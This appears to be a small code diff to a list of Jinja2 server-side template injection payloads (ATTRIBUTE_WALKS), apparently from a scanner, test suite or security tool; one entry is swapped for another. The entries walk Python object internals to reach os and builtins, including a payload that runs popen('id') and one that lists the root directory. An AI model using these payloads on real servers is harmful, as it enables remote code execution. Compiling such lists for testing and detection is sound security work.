@@ -31,7 +31,7 @@ ATTRIBUTE_WALKS = [
     "{{ ''.__class__.__mro__[1].__subclasses__() }}",
     "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
     "{{ messages.__class__.__init__.__globals__ }}",
-    "{{ lipsum.__globals__['os'].listdir('/') }}",
+    "{{ joiner.__init__.__globals__['os'].listdir('/') }}",
     "{{ namespace.__init__.__globals__['__builtins__'] }}",
 ]
 
